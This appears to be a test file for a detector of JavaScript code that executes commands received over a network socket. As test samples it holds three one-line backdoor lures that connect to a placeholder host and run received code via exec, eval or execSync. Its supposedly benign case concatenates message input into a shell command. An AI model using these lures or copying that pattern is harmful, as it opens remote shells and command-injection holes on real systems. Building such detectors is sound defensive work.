import { describe, expect, it } from 'vitest';
import { hitsOf } from '../../../test/support/analyse.ts';
import detector from './socket-message-to-code.ts';

describe('socket-message-to-code', () => {
  it('catches command loops', async () => {
    const lures = [
      `const io = require('socket.io-client'); const { exec } = require('child_process'); const s = io('http://192.0.2.7:5918'); s.on('command', (msg) => { exec(msg.code, (e, out) => s.emit('r', out)); });`,
      `const WebSocket = require('ws'); const ws = new WebSocket('ws://192.0.2.7:1'); ws.on('message', (m) => eval(m.toString()));`,
      `const net = require('net'); const c = net.connect(4444, '192.0.2.7'); c.on('data', d => { require('child_process').execSync(d.toString()); });`,
    ];
    for (const lure of lures) expect(await hitsOf(detector, { 'a.js': lure }), lure).toHaveLength(1);
  });

  it('twin: a chat that shows messages, a ping with a fixed program', async () => {
    const code = `const io = require('socket.io-client'); const { exec } = require('child_process'); const s = io('http://192.0.2.7'); s.on('m', (m) => { console.log(m); exec('ping -c 1 ' + m.host); });`;
    expect(await hitsOf(detector, { 'a.js': code })).toEqual([]);
  });
});
